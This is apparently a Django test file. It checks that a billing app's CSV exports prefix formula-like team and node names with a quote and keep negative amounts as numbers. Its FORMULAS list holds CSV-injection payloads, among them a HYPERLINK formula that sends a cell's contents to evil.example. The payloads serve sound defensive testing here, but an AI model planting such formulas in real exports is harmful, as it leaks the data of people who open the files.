"""Every CSV people download or receive (the spend summary, the report's attachment) neutralises names that a
spreadsheet would run as formulas, and keeps amounts, negative ones included, as numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from billing.models import Budget, ReportSubscription
from billing.reports.data import report_data
from billing.reports.render import report_render
from tests.billing.test_selectors import ledger_day, ledger_entry
from tests.factories import NodeFactory, SiteFactory, TeamFactory

pytestmark = pytest.mark.django_db
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(1)"]
DAY = date(2026, 3, 2)


@pytest.fixture
def hostile():
    """One team per formula name, each with spend and an idle node of the same name; a team with negative spend."""
    site = SiteFactory(name="use1")
    teams = []
    for i, name in enumerate(FORMULAS):
        team = TeamFactory(name=name)
        node = NodeFactory(site=site, team=team, name=name)
        ledger_day(day=DAY, site=site, team=team, compute=str(10 + i), idle="1")
        ledger_entry(node=node, hour=datetime(2026, 3, 2, 1, tzinfo=UTC), compute="2", idle="1", idle_gpu_hours="1")
        Budget.objects.create(team=team, monthly_usd=Decimal(100))
        teams.append(team)
    refund = TeamFactory(name="Refunds")
    ledger_day(day=DAY, site=site, team=refund, compute="-7.5")
    return teams


def test_spend_summary_csv_neutralises_formula_names_and_keeps_negative_amounts(admin_api, hostile):
    response = admin_api.get(
        "/api/v1/spend/summary.csv", {"group_by": "team", "from": "2026-03-01", "to": "2026-03-31"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    labels = {row[1]: row for row in rows[1:]}
    for name in FORMULAS:
        assert "'" + name in labels and name not in labels
    total_column = rows[0].index("total_usd")
    assert labels["Refunds"][total_column] == "-7.500000"  # a number: no quote in front
    assert Decimal(labels["TOTAL"][total_column]) == sum(10 + i for i in range(len(FORMULAS))) - Decimal("7.5")


def test_report_csv_attachment_neutralises_formula_names_and_keeps_negative_amounts(hostile):
    subscription = ReportSubscription.objects.create(name="Fleet", recipients=["f@example.com"])
    data = report_data(subscription=subscription, period_start=date(2026, 3, 1), period_end=date(2026, 4, 1))
    rows = list(csv.DictReader(io.StringIO(report_render(data).csv_bytes.decode())))
    cells = [value for row in rows for value in row.values()]
    for name in FORMULAS:
        assert name not in cells
        assert not [c for c in cells if c.startswith(name)]  # also in labels that start with a name
    team_labels = {r["label"] for r in rows if r["section"] == "team"}
    assert {"'" + name for name in FORMULAS} <= team_labels
    assert {r["key"] for r in rows if r["section"] == "idle_node"} == {"'" + name for name in FORMULAS}
    assert {r["label"] for r in rows if r["section"] == "budget"} >= {"'" + name for name in FORMULAS}
    [refunds] = [r for r in rows if r["section"] == "team" and r["label"] == "Refunds"]
    assert refunds["total_usd"] == "-7.50"
